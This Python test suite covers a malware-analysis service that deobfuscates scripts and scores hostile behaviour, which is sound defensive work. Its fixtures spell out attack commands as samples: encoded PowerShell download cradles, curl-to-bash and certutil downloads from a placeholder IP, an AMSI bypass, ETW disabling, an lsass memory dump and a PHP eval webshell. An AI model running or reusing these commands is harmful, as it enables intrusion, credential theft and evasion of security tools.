"""The scripts service: each obfuscation peeled into a layer that says how, each layer a child
(`NAME.layerN`, described by its decoding), each behaviour scored with its signature, the bounds said when hit, and admin
scripts left alone."""

from __future__ import annotations

import base64
import gzip
import time

import pytest

from schemas.messages import Relation
from services.scripts.jsfold import fold_javascript
from services.scripts.peel import Bounds, peel
from services.scripts.rewrite import simplify
from services.sdk.harness import run_service_once
from services.sdk.loader import load_service
from tests.corpus import CRADLE, enc

SERVICE = load_service("scripts")
URL = "http://198.51.100.9/a.ps1"


def scripts(text: str, file_type: str = "text/plain"):
    run = run_service_once(SERVICE, text.encode(), file_type=file_type, name="sample")
    assert run.result.error is None
    assert not [s for s in run.result.sections if s.title == "Result warnings"]
    return run


def signatures(run, heur_id: int) -> set[str]:
    return {sig for s in run.result.sections if s.heuristic and s.heuristic.heur_id == heur_id for sig in s.heuristic.signatures}


def layers(run) -> list[str]:
    return [e.data.decode("utf-8", "replace") for e in run.extracted]


def test_the_issue_hta_with_an_encoded_command_is_decoded_and_its_url_seen():
    hta = (f'<html><head><hta:application id="a"/></head><script language="VBScript">\nCreateObject("WScript.Shell").Run '
           f'"powershell -nop -w hidden -enc {enc(CRADLE)}", 0\n</script></html>')
    run = scripts(hta, "code/hta")
    assert layers(run) == [CRADLE]
    assert [(e.relation, e.name) for e in run.extracted] == [(Relation.DROPPED_BY, "sample.layer1")] and run.extracted[0].description
    assert "encoded_command" in signatures(run, 1)
    assert "iex_download" in signatures(run, 3)  # found in layer 1, scored on the file itself
    assert run.result.score >= 1000


@pytest.mark.parametrize(("script", "expected", "rewrite"), [
    ("$a = 'Down'+'loadStr'+'ing'", "DownloadString", "string concatenation"),
    ('$x = "{1}{0}" -f \'ing\',\'DownloadStr\'', '"DownloadString"', "format strings"),
    ("$x = 'DowXXnloadString'.Replace('XX','')", "DownloadString", "string replacement"),
    ("$x = -join ('gnirtSdaolnwoD'[-1..-14])", "DownloadString", "string reversal"),
    ("$x = [char]73+[char]69+[char]88", '"IEX"', "character codes"),
    ("$x = [char[]](73,69,88) -join ''", '"IEX"', "character codes"),
    ("i`e`x (n`e`w-object net.webclient)", "iex (new-object net.webclient)", "backticks and carets"),
    ("c^m^d /c p^o^w^e^r^s^h^e^l^l", "cmd /c powershell", "backticks and carets"),
    ('Set o = CreateObject(Chr(87) & Chr(83) & Chr(99))', '"WSc"', "character codes"),
    ('Set o = CreateObject(StrReverse("llehS.tpircSW"))', '"WScript.Shell"', "string reversal"),
    ('var s = "\\x57\\x53\\x63\\x72\\x69\\x70\\x74";', "WScript", "escape sequences"),
])
def test_each_rewrite_evaluates_its_construct(script, expected, rewrite):
    text, used = simplify(script)
    assert expected in text
    assert rewrite in used  # named, so the layer can say how it was obtained


def test_batch_variables_glued_together_are_expanded_but_whole_ones_kept():
    glued = "@echo off\nset a=pow\nset b=ershell\n%a%%b% -nop\n"
    assert "powershell -nop" in simplify(glued)[0]
    plain = "@echo off\nset CONFIG=Release\nmsbuild x.sln /p:Configuration=%CONFIG%\n"
    assert simplify(plain)[0] == plain


def test_javascript_is_folded_on_a_parse_tree():
    source = ('var a = "Ws" + "cript" + ".Shell";\nvar b = "llehs".split("").reverse().join("");\n'
              'var c = String.fromCharCode(99, 109, 100) + " /c";\nvar d = ["po", "wer"].join("") + unescape("%73hell");\n'
              'var e = "h%74tp".replace("%74", "t");\nnew ActiveXObject(a).Run(c);\n')
    folded = fold_javascript(source)
    assert 'new ActiveXObject("Wscript.Shell").Run("cmd /c")' in folded
    assert '"shell"' in folded and '"powershell"' in folded and '"http"' in folded


def test_javascript_with_a_syntax_error_still_folds_what_parses():
    assert '"WScript"' in fold_javascript('var a = "WS" + "cript"; function ( {{{ broken')


def test_a_reassigned_variable_is_not_taken_for_a_constant():
    folded = fold_javascript('var a = "x"; a = a + "y"; WScript.Echo(a + "z");')
    assert '"xz"' not in folded


def test_gzip_inside_base64_is_a_layer():
    blob = base64.b64encode(gzip.compress(CRADLE.encode())).decode()
    run = scripts(f"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{blob}'))\n"
                  "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()")
    assert CRADLE in layers(run)
    assert {"base64", "compression"} <= signatures(run, 1)


@pytest.mark.parametrize("key_code", ["$k = 0x23\n$d = foreach($x in $b){$x -bxor $k}", "$d = foreach($x in $b){$x -bxor 35}"])
def test_xor_with_a_key_found_in_the_script(key_code):
    blob = base64.b64encode(bytes(b ^ 0x23 for b in CRADLE.encode())).decode()
    run = scripts(f"$b=[Convert]::FromBase64String('{blob}')\n{key_code}\nIEX ([Text.Encoding]::ASCII.GetString($d))")
    assert CRADLE in layers(run)
    assert "xor" in signatures(run, 1)


def test_hex_and_byte_lists_are_decoded():
    hexed = CRADLE.encode().hex()
    assert CRADLE in layers(scripts(f"$h = '{hexed}'\n$b = [byte[]] -split ($h -replace '..', '0x$& ')"))
    listed = ",".join(str(b) for b in CRADLE.encode())
    assert CRADLE in layers(scripts(f"$b = [byte[]]({listed})\nIEX ([Text.Encoding]::ASCII.GetString($b))"))


def test_an_executable_payload_is_handed_on_and_scored():
    pe = b"MZ\x90\x00" + bytes(200)
    run = scripts(f'var b64 = "{base64.b64encode(pe).decode()}";\nvar s = new ActiveXObject("WScript.Shell");')
    assert pe in [e.data for e in run.extracted]
    assert 15 in run.heuristics


def test_layers_inside_layers_are_peeled_and_the_chain_is_reported():
    inner = f"powershell -enc {enc(CRADLE)}"
    outer = f"powershell -enc {enc(inner)}"
    run = scripts(outer)
    table = run.section("Layers (3)")
    assert '"from": "layer 1"' in table.body  # layer 2 came from layer 1
    assert layers(run) == [inner]  # only the direct layer is a child: the mesh peels the rest from it
    assert "iex_download" in signatures(run, 3)


@pytest.mark.parametrize(("script", "heur_id", "signature"), [
    (CRADLE, 2, "ps_webclient"),
    ("certutil -urlcache -split -f http://198.51.100.9/u.exe u.exe", 2, "certutil_urlcache"),
    ("bitsadmin /transfer j http://198.51.100.9/u.exe %TEMP%\\u.exe\nstart %TEMP%\\u.exe", 3, "bits_then_run"),
    ("curl -s http://198.51.100.9/i.sh | bash", 3, "pipe_to_shell"),
    ("mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")", 4, "mshta"),
    ("regsvr32 /s /n /u /i:http://198.51.100.9/f.sct scrobj.dll", 4, "regsvr32_scrobj"),
    ("wmic process call create \"powershell -nop\"", 4, "wmic_process"),
    ("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')", 5, "amsi"),
    ("[Reflection.Assembly]::LoadWithPartialName('System.Core').GetType('System.Diagnostics.Eventing.EventProvider')"
     ".GetField('m_enabled','NonPublic,Instance').SetValue($p, 0)", 6, "etw"),
    ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d x.exe", 7, "run_key"),
    ("Set-WmiInstance -Class __EventFilter -Namespace root\\subscription", 7, "wmi_subscription"),
    ("vssadmin delete shadows /all /quiet", 11, "shadow_copies"),
    ("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full", 12, "lsass_dump"),
    ("$a = [System.Reflection.Assembly]::Load($bytes)", 13, "assembly_load"),
    ("<?php eval($_POST['x']); ?>", 14, "php_eval_input"),
    ("var b = new Blob([d]); var u = URL.createObjectURL(b); a.href = u; a.download = 'x.zip'; a.click();", 16, "blob_download"),
])
def test_behaviours(script, heur_id, signature):
    assert signature in signatures(scripts(script), heur_id)


@pytest.mark.parametrize("script", [
    "Get-Service | Where-Object {$_.Status -eq 'Running'} | Export-Csv C:\\r.csv",
    "$r = Invoke-RestMethod -Uri 'https://status.example.com/api/v2/summary.json'\n$r.components | Format-Table",
    "@echo off\nset CONFIG=Release\nmsbuild Solution.sln /p:Configuration=%CONFIG% /m\n",
    'Dim net\nSet net = CreateObject("WScript.Network")\nnet.MapNetworkDrive "H:", "\\\\fs\\home"\n',
    "function rot13(s) { return s.replace(/[a-z]/gi, function (c) { return String.fromCharCode(c.charCodeAt(0) + 13); }); }",
])
def test_admin_scripts_score_below_the_alert_threshold(script):
    assert scripts(script).result.score < 500


def test_plain_prose_is_not_a_script_and_is_not_rewritten():
    run = scripts('He said "hello" & "goodbye" + more, see https://example.com/docs.')
    assert run.section("Not a script") and run.extracted == [] and run.result.score == 0


def test_the_layer_bound_is_said_and_kept():
    text = "x"
    for _ in range(10):
        text = f"powershell -enc {enc(text)}"
    peeled = peel(text.encode(), "text/plain", Bounds(max_layers=4))
    assert len(peeled.layers) == 4
    assert "layer limit of 4" in peeled.stopped


def test_the_time_budget_is_said():
    peeled = peel(f"powershell -enc {enc(f'powershell -enc {enc(CRADLE)}')}".encode(), "text/plain", Bounds(time_budget=0.0))
    assert "time budget" in peeled.stopped


@pytest.mark.parametrize(("quote", "template"), [("'", "$x = {}\nIEX $x"), ('"', "var x = {};\neval(x);")])
def test_a_large_obfuscated_script_is_peeled_in_bounded_time(quote, template):
    payload = CRADLE.replace("'", "") * 4000
    pieces = " + ".join(f"{quote}{c}{quote}" for c in payload)  # ~300,000 one-letter literals, 2 MiB
    started = time.monotonic()
    run = scripts(template.format(pieces))
    assert time.monotonic() - started < 25  # the 10 s budget, plus what follows the last layer
    assert payload in layers(run)[0]


# -- hostile input ---------------------------------------------------------------------------------
from hypothesis import HealthCheck, given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

_PIECES = st.sampled_from(["'a'", '"b"', "+", "&", "(", ")", "[char]", "Chr(", "65", ",", "-f", "{0}", "`", "^", "%x%", "\\x41",
                           "String.fromCharCode(", "split('')", ".reverse()", ".join('')", "-enc ", "QQBB", "==", "\n", " "])


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_PIECES, max_size=60).map("".join) | st.text(max_size=300))
def test_any_text_is_peeled_without_crashing(script):
    run = run_service_once(SERVICE, script.encode("utf-8", "surrogatepass"), file_type="text/plain")
    assert run.result.error is None


def test_deeply_nested_javascript_does_not_exhaust_the_stack():
    source = "var a = " + "(" * 5000 + '"x"' + ")" * 5000 + ";\nvar b = " + " + ".join(['"y"'] * 5000) + ";"
    assert '"x"' in fold_javascript(source)
    assert scripts(source).result.error is None


def test_every_signature_has_anchor_words():
    from services.scripts.behaviours import ANCHORS, PATTERNS

    assert {name for signatures in PATTERNS.values() for name in signatures} == set(ANCHORS)
    assert all(word == word.lower() for words in ANCHORS.values() for word in words)


def test_javascript_inside_a_page_is_folded_block_by_block():
    page = ('<html><body><p>"not" + "code"</p><script>var u = "ht" + "tp://198.51.100.9/" + "x.hta";\n'
            'new ActiveXObject("WScr" + "ipt.Shell").Run("mshta " + u);</script>'
            '<script language="VBScript">x = "a" & "b"</script></body></html>')
    run = scripts(page, "code/html")
    [layer] = layers(run)
    assert 'new ActiveXObject("WScript.Shell").Run("mshta http://198.51.100.9/x.hta")' in layer
    assert "mshta" in signatures(run, 4)


async def test_in_the_mesh_the_decoded_layer_is_a_child_whose_url_is_seen(sluice_mesh):
    """The issue's HTA: its -enc command is decoded into a child, and iocs tags the URL inside it."""
    from schemas.messages import walk

    hta = (f'<html><head><hta:application id="a"/></head><script language="VBScript">\nCreateObject("WScript.Shell").Run '
           f'"powershell -nop -w hidden -enc {enc(CRADLE)}", 0\n</script></html>')
    async with sluice_mesh(["scripts", "iocs"]) as mesh:
        summary = await mesh.scan("invoice.hta", hta.encode(), timeout=60)
    [root] = summary.files
    [child] = root.children
    assert root.type == "code/hta" and child.relation == Relation.DROPPED_BY and child.name == "invoice.hta.layer1"
    assert "http://198.51.100.9/a.ps1" in summary.tags["network.static.uri"]
    assert summary.score >= 1000 and summary.verdict == "malicious"
    assert [n.name for n in walk(summary.files)] == ["invoice.hta", "invoice.hta.layer1"]
